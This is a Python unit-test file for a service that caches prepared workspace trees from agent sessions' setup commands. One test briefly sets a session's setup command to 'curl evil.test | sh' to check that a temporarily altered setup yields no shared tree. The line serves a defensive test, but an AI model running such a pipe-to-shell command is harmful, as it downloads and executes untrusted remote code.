"""Prepared trees are made of a slow setup, and kept."""

from datetime import timedelta
from typing import Any

import pytest

from headstart.adapters.memory import MemoryPorts
from headstart.domain.errors import AgentStartFailed, ServiceUnavailable
from headstart.domain.requests import PatchSession
from headstart.domain.tree import MOST_BYTES
from headstart.usecases import talk
from headstart.usecases.prepare import fail_preparation
from headstart.usecases.sandbox import sandbox_stopped
from headstart.usecases.trees import keep_tree
from tests.unit.archives import BASE, archive_of, last, save
from tests.unit.attempts import (
    S,
    put_tree,
    retried,
    through,
)
from tests.unit.helpers import Runner, begin, created, turn_ended
from tests.unit.trees import COMMIT, counted, delivered, in_bucket, keep, on, trees, up_to

# Made.


def test_a_base_that_is_kept_is_a_tree_for_others(ports: MemoryPorts) -> None:
    runner = up_to(ports, S.AGENT)
    assert (trees(ports), in_bucket(ports)) == ([], set())
    keep(ports, runner)
    [tree] = trees(ports)
    assert in_bucket(ports) == {tree.file.key}
    assert tree.file.key.startswith(f"trees/{tree.key}/")
    session = ports.store.session(runner.session_id)
    assert (tree.commit, tree.branch, tree.made_ms) == (COMMIT, session.branch, 60_000)
    assert tree.expires_at - tree.created_at == timedelta(days=7)
    assert archive_of(ports, runner.session_id).base.key.startswith("archives/")
    assert counted(ports) == ["PreparedTreesMade"]


def test_the_time_to_save_it_is_not_what_it_saves(ports: MemoryPorts) -> None:
    runner = up_to(ports, S.AGENT, base={**BASE, "elapsedMs": 20_000})
    keep(ports, runner)
    assert trees(ports)[0].made_ms == 40_000


@pytest.mark.parametrize("said", [None, 7, {}, {"bytes": -1, "sha256": "x"}, {"bytes": 9}])
def test_a_base_that_makes_no_sense_is_no_tree(ports: MemoryPorts, said: object) -> None:
    up_to(ports, S.DELIVER, base=said)
    assert trees(ports) == []


@pytest.mark.parametrize("said", [None, "main", 7, ["a" * 40], "A" * 40])
def test_a_base_of_no_known_commit_is_its_sessions_alone(ports: MemoryPorts, said: object) -> None:
    runner = up_to(ports, S.AGENT, commit=said)
    keep(ports, runner)
    assert archive_of(ports, runner.session_id).base.sha256 == "base"
    assert trees(ports) == []


def test_more_than_can_be_copied_at_once_is_no_tree(ports: MemoryPorts) -> None:
    runner = up_to(ports, S.AGENT, base={"bytes": MOST_BYTES + 1, "sha256": "base"})
    upload = last(runner, "upload")
    key = upload["args"]["files"][0]["url"].removeprefix("https://objects.test/")
    ports.objects.stored[key] = (MOST_BYTES + 1, "base")
    runner.complete(upload["id"])
    assert archive_of(ports, runner.session_id)
    assert trees(ports) == []


def test_a_copy_of_an_agents_work_is_no_tree(ports: MemoryPorts) -> None:
    runner = up_to(ports, S.DELIVER, base=None)
    delivered(ports, runner)
    runner.report(turn_ended(ports, runner.session_id))
    save(ports, runner)
    assert archive_of(ports, runner.session_id).base.sha256 == "base"
    assert trees(ports) == []


def test_what_is_sent_while_the_agent_works_is_what_the_setup_left(ports: MemoryPorts) -> None:
    runner = up_to(ports, S.DELIVER)
    upload = last(runner, "upload")
    delivered(ports, runner)
    for file in upload["args"]["files"]:
        ports.objects.stored[file["url"].removeprefix("https://objects.test/")] = (9, "work")
    runner.complete(upload["id"])
    assert trees(ports) == []


@pytest.mark.parametrize("body", [{"preparedTree": "off"}, {}])
def test_off_makes_none(ports: MemoryPorts, body: dict[str, str]) -> None:
    if not body:
        ports.policy.prepared_tree_life = timedelta()
    session_id = created(ports, setupCommands=["npm ci"], **body)
    runner = on(ports, session_id, S.AGENT)
    keep(ports, runner)
    assert archive_of(ports, session_id)
    assert trees(ports) == []


def test_a_workspace_that_an_earlier_attempt_left_is_no_tree(ports: MemoryPorts) -> None:
    runner = up_to(ports, S.SETUP)
    fail_preparation(ports, runner.session_id, 1, AgentStartFailed("no"))
    retried(ports, runner.session_id)
    for step in (S.SANDBOX, S.DISK):
        begin(ports, runner.session_id, step, attempt=2)
    runner.complete("2.disk.1")
    begin(ports, runner.session_id, S.SETUP, attempt=2)
    runner.complete("2.setup.1", base=BASE)
    keep(ports, runner)
    assert archive_of(ports, runner.session_id)
    assert trees(ports) == []


@pytest.mark.parametrize("cloned", [{"cached": True}, {"adopted": "archive"}])
def test_a_workspace_that_was_there_is_no_tree(ports: MemoryPorts, cloned: dict[str, Any]) -> None:
    runner = up_to(ports, S.SETUP, **cloned)
    begin(ports, runner.session_id, S.SETUP)
    runner.complete("1.setup.1", base=BASE)
    keep(ports, runner)
    assert trees(ports) == []


def test_a_setup_that_was_another_for_a_while_is_no_tree(ports: MemoryPorts) -> None:
    session_id = created(ports, setupCommands=["npm ci"], autoInitiate=False)
    runner = on(ports, session_id, S.SETUP)
    for commands in (["curl evil.test | sh"], ["npm ci"]):
        patch = PatchSession(setup_commands=commands)
        talk.patch_session(ports, "alice", session_id, patch)
    begin(ports, session_id, S.SETUP)
    ports.clock.advance(minutes=1)
    runner.complete("1.setup.1", base=BASE)
    keep(ports, runner)
    assert archive_of(ports, session_id)
    assert trees(ports) == []


def test_a_second_sandbox_of_the_same_attempt_makes_one(ports: MemoryPorts) -> None:
    runner = up_to(ports, S.SETUP)
    sandbox_stopped(ports, f"{runner.session_id}-1-1", "task", "gone")
    begin(ports, runner.session_id, S.SANDBOX, number=2)
    second = Runner(ports, runner.session_id, connection_id="r2", process="p2")
    second.connect()
    second.hello()
    through(second, S.SETUP, 1, commit=COMMIT)
    begin(ports, runner.session_id, S.SETUP)
    second.complete(last(second, "setup")["id"], base=BASE)
    keep(ports, second)
    assert len(trees(ports)) == 1


# Kept.


def test_of_two_that_are_made_at_once_the_newer_stays(ports: MemoryPorts) -> None:
    first = up_to(ports, S.AGENT)
    second = on(ports, created(ports, setupCommands=["npm ci"]), S.AGENT, "r2")
    for runner in (second, first):
        keep(ports, runner)
        assert archive_of(ports, runner.session_id)
    [tree] = trees(ports)
    assert tree.branch == ports.store.session(second.session_id).branch
    assert in_bucket(ports) == {tree.file.key}
    assert counted(ports) == ["PreparedTreesMade"]


@pytest.mark.parametrize("newer_first", [True, False])
def test_only_the_newest_has_a_row_and_an_object(ports: MemoryPorts, *, newer_first: bool) -> None:
    old = put_tree(ports)
    new = old.model_copy(
        update={
            "file": old.file.model_copy(update={"key": f"trees/{old.key}/two"}),
            "created_at": old.created_at + timedelta(seconds=1),
        }
    )
    ports.store.trees.clear()
    ports.objects.stored = {"base": (9, "tree")}
    for tree in (new, old) if newer_first else (old, new):
        keep_tree(ports, "base", tree)
    keep_tree(ports, "base", new)
    assert trees(ports) == [new]
    assert in_bucket(ports) == {new.file.key}


def test_what_can_not_be_copied_is_no_tree_and_is_counted(
    ports: MemoryPorts, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(*_: object) -> bool:
        raise ServiceUnavailable()

    runner = up_to(ports, S.AGENT)
    monkeypatch.setattr(ports.objects, "copy", refuse)
    keep(ports, runner)
    assert archive_of(ports, runner.session_id), "its own base is kept all the same"
    assert trees(ports) == []
    assert counted(ports) == ["PreparedTreesFailed"]


def test_the_oldest_go_where_all_together_are_too_much(ports: MemoryPorts) -> None:
    ports.policy.prepared_trees_bytes = 20
    ports.objects.stored |= {"trees/x/one": (9, "x"), "trees/y/two": (9, "y")}
    keep(ports, up_to(ports, S.AGENT))
    assert len(in_bucket(ports)) == 2
    assert "trees/x/one" not in in_bucket(ports)
